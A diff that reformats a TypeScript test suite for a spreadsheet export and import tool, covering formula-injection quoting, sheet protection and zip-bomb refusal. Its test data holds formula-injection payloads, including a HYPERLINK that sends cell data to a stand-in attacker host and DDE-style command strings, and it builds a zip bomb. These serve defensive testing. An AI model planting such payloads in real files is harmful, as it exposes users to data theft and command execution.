@@ -39,7 +39,22 @@ function tickmark(...args: string[]): { code: number; out: string; err: string }
 
 describe('formula-like text', () => {
   it('quoteFormulaText and unquoteFormulaText are inverse, and quoted text never starts a formula', () => {
-    for (const t of ['=HYPERLINK("http://x","y")', '+cmd', '-2+3', '@SUM(A1)', '\tTab', '\rCR', '\nLF', "'=already", "''", "'", 'plain', '', '3-2', 'a=b']) {
+    for (const t of [
+      '=HYPERLINK("http://x","y")',
+      '+cmd',
+      '-2+3',
+      '@SUM(A1)',
+      '\tTab',
+      '\rCR',
+      '\nLF',
+      "'=already",
+      "''",
+      "'",
+      'plain',
+      '',
+      '3-2',
+      'a=b',
+    ]) {
       const q = quoteFormulaText(t);
       expect(FORMULA_START.test(q)).toBe(false);
       expect(unquoteFormulaText(q)).toBe(t);
@@ -50,7 +65,14 @@ describe('formula-like text', () => {
 
   it('no text cell of an export starts like a formula, whoever wrote the text, and the import reads the original back', async () => {
     const view = s.view();
-    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', "'=quoted by the auditor"];
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3+cmd',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      "'=quoted by the auditor",
+    ];
     view.items.slice(0, attacks.length).forEach((it, i) => updateItem(s.ws, it.id, { notes: attacks[i]!, tickmarks: ['=X', '+Y'] }, 'test'));
     const file = path.join(s.dir, 'attacks.xlsx');
     await exportWorkpaper(s.ws, s.sessionId, file, 'test');
@@ -86,7 +108,8 @@ describe('formula-like text', () => {
 describe('sheet protection', () => {
   it('protects every sheet; on the Sample sheet only results, tickmarks and notes are unlocked', async () => {
     const wb = await load(exported);
-    for (const ws of wb.worksheets) expect((ws as unknown as { sheetProtection: { sheet?: boolean } | null }).sheetProtection?.sheet, ws.name).toBe(true);
+    for (const ws of wb.worksheets)
+      expect((ws as unknown as { sheetProtection: { sheet?: boolean } | null }).sheetProtection?.sheet, ws.name).toBe(true);
     const sample = wb.getWorksheet(SHEET.sample)!;
     const header = sample.getRow(SAMPLE_HEADER_ROW);
     const cols = new Map<string, number>();
@@ -100,7 +123,9 @@ describe('sheet protection', () => {
     for (const name of ["'=1+1 MFA", "'@SUM(A1)", 'Purpose', 'Tickmarks', 'Notes']) expect(locked(name), name).toBe(false);
     // the header itself is locked, and so is every cell of the other sheets
     expect(header.getCell(cols.get('Notes')!).protection?.locked).not.toBe(false);
-    wb.worksheets.filter((w) => w.name !== SHEET.sample).forEach((w) => w.eachRow((r) => r.eachCell((c) => expect(c.protection?.locked, `${w.name}!${c.address}`).not.toBe(false))));
+    wb.worksheets
+      .filter((w) => w.name !== SHEET.sample)
+      .forEach((w) => w.eachRow((r) => r.eachCell((c) => expect(c.protection?.locked, `${w.name}!${c.address}`).not.toBe(false))));
   });
 });
 
@@ -124,7 +149,10 @@ describe('bounded import', () => {
 
   it('refuses a zip bomb: small on disk, inflating past the limit (counted while inflating)', async () => {
     const bomb = path.join(s.dir, 'bomb.xlsx');
-    writeFileSync(bomb, makeZip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(WORKBOOK_LIMITS.inflatedBytes + 1024, 0x20), deflate: true }]));
+    writeFileSync(
+      bomb,
+      makeZip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(WORKBOOK_LIMITS.inflatedBytes + 1024, 0x20), deflate: true }]),
+    );
     await refused(bomb, new RegExp(`inflates to more than ${WORKBOOK_LIMITS.inflatedBytes / 1024 / 1024}\\.0 MB`));
   });
 
